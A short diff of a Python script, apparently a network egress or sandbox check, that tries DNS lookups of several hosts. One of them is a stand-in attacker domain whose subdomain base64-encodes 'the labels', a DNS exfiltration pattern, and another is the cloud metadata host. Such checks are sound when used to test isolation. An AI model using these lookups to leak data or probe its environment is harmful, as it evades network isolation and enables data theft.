@@ -7,7 +7,7 @@ import time
 import torch
 
 began = time.monotonic()
-for name in ("example.com", "pypi.org", "localhost.localdomain", "dGhlIGxhYmVscw.attacker.example", "metadata.google.internal"):
+for name in ("example.com", "example.org", "localhost.localdomain", "dGhlIGxhYmVscw.attacker.example", "metadata.google.internal"):
     print("TRIED", name)
     for ask in (socket.gethostbyname, socket.gethostbyname_ex, lambda name: socket.getaddrinfo(name, 80)):
         try:
